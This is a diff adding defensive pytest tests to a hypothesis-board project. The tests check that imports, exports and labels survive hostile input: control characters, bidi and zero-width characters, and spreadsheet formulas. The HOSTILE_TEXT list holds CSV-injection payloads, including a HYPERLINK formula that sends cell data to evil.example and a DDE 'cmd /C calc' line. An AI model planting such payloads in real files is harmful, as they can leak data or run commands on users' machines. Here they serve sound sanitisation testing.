@@ -8,6 +8,8 @@ fails the test instead of hanging or exhausting the machine.
 
 from __future__ import annotations
 
+import csv
+import json
 import os
 import time
 from pathlib import Path
@@ -18,12 +20,21 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from justext.core import revise_paragraph_classification
 
+from hyp_board import sharing
+from hyp_board.core.editor import ProjectEditor
+from hyp_board.core.matrix import Matrix
+from hyp_board.core.model import Cell, Evidence, Hypothesis, Project, ProjectData, Rating
+from hyp_board.core.text import clean_line
 from hyp_board.ingest.boilerplate import revise_in_context
 from hyp_board.ingest.importer import DocumentImportError, kind_for, parse_document, read_document
 from hyp_board.ingest.text_decoding import _FTFY_OPTIONS, fix_text
 from hyp_board.project_files.csv_matrix import parse_csv_matrix
+from hyp_board.project_files.hypboard import parse_project, write_project_file
 from hyp_board.project_files.import_result import ProjectFileError
-from hyp_board.project_files.parc_achz import parse_achz
+from hyp_board.project_files.parc_achz import parse_achz, write_achz
+from hyp_board.reports.csv_report import write_csv
+from hyp_board.reports.markdown_report import write_markdown
+from hyp_board.reports.model import build_report
 from hyp_board.safe_read import FileTooLarge, UnreadableFile, read_limited
 
 import hostile_files as hf
@@ -277,3 +288,105 @@ def test_a_web_archive_of_half_a_million_parts_is_refused_before_parsing():
     with pytest.raises(DocumentImportError, match="more than 10,000 parts"):
         parse_document(archive, "parts.mhtml", "mhtml")
     assert time.monotonic() - start < 2
+
+
+def test_a_lone_surrogate_is_replaced_and_said(project_db: Path, tmp_path: Path):
+    path = hf.lone_surrogate(tmp_path)
+    result = hyp_board("import", str(path), db=project_db)
+    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
+    assert "Control or invisible characters were removed from 1 field" in result.stdout
+    scores = hyp_board("score", "Hostile", db=project_db)
+    assert "Iran \ufffd" in scores.stdout
+
+
+def test_a_reader_failing_in_an_unforeseen_way_still_refuses_in_words(tmp_path: Path, monkeypatch):  # type: ignore[no-untyped-def]
+    path = tmp_path / "odd.hypboard"
+    path.write_text("{}", encoding="utf-8")
+
+    def broken(_path: Path) -> None:
+        raise KeyError("something no check foresaw")
+
+    monkeypatch.setitem(sharing.READERS, ".hypboard", broken)
+    with pytest.raises(ProjectFileError, match=r"odd\.hypboard: cannot be read"):
+        sharing.read_any(path)
+
+
+# -- 13. formulas in CSV exports, 14. control characters, and every export read back --------
+HOSTILE_TEXT = [
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "'=already quoted",
+    "NUL\x00in the middle",
+    "bell\x07, escape\x1b[31m, C1\x85 and DEL\x7f",
+]
+
+
+def hostile_project() -> ProjectData:
+    """A project holding hostile text in every field, as an older version could store it."""
+    data = ProjectData(Project("Round trip", notes="notes\x00 and \x1b[2J"))
+    for i, text in enumerate(HOSTILE_TEXT, start=1):
+        data.hypotheses.append(Hypothesis(text, description=text, id=i, position=i))
+        data.evidence.append(Evidence(text, quote=text, source=text, notes=text, id=i, position=i))
+        data.cells[(i, i)] = Cell(Rating.I, text)
+    return data
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_written_as_text(store, tmp_path: Path):  # type: ignore[no-untyped-def]
+    pid = store.insert_project(hostile_project())
+    out = tmp_path / "matrix.csv"
+    write_csv(build_report(Matrix(store.load_project(pid))), out)
+    cells = [cell for row in csv.reader(out.read_text(encoding="utf-8-sig").splitlines()) for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in cells and "''=already quoted" in cells
+    assert "\x00" not in out.read_text(encoding="utf-8-sig")
+
+
+def test_every_export_reads_back_with_the_same_labels(store, tmp_path: Path):  # type: ignore[no-untyped-def]
+    pid = store.insert_project(hostile_project())
+    matrix = Matrix(store.load_project(pid))
+    expected = [clean_line(t) for t in HOSTILE_TEXT]
+    files = {
+        "hypboard": tmp_path / "p.hypboard",
+        "achz": tmp_path / "p.achz",
+        "csv": tmp_path / "p.csv",
+    }
+    write_project_file(matrix, files["hypboard"])
+    write_achz(matrix, files["achz"])
+    write_csv(build_report(matrix), files["csv"])
+    for kind, path in files.items():
+        data = sharing.read_any(path).data
+        assert [h.label for h in data.hypotheses] == expected, kind
+        assert [e.summary for e in data.evidence] == expected, kind
+    markdown = tmp_path / "p.md"
+    write_markdown(build_report(matrix), markdown)
+    text = read_document(markdown).document.text
+    assert all(label in text for label in expected[:4])
+
+
+# -- 16. labels that look alike -------------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("typed", "kept"),
+    [
+        ("Ir\u200ban", "Iran"),  # zero-width space
+        ("Ir\u200dan", "Iran"),  # zero-width joiner between Latin letters
+        ("\u202eIran\u202c", "Iran"),  # right-to-left override
+        ("\u2066Iran\u2069", "Iran"),  # isolate
+        ("Ira\u00adn", "Iran"),  # soft hyphen
+        ("\ufeffIran", "Iran"),
+        ("Tehe\u0301ran", "Tehéran"),  # decomposed é: NFC
+        ("می\u200cخواهم", "می\u200cخواهم"),  # the Persian non-joiner is spelling: kept
+        ("👩\u200d💻", "👩\u200d💻"),  # an emoji sequence: kept
+    ],
+)
+def test_invisible_characters_leave_labels_from_files_and_from_the_editor(store, typed: str, kept: str):  # type: ignore[no-untyped-def]
+    assert clean_line(typed) == kept
+    document = hf.hypboard_document(label=typed, summary=typed, title=typed)
+    data = parse_project(json.dumps(document).encode(), "spoof.hypboard").data
+    assert (data.hypotheses[0].label, data.evidence[0].summary, data.documents[0].title) == (kept,) * 3
+    pid = store.insert_project(data)
+    editor = ProjectEditor(store, Matrix(store.load_project(pid)))
+    hypothesis = editor.matrix.hypotheses[0]
+    editor.update_hypothesis(hypothesis.id, {"label": "x" + typed})
+    assert Matrix(store.load_project(pid)).hypotheses[0].label == "x" + kept
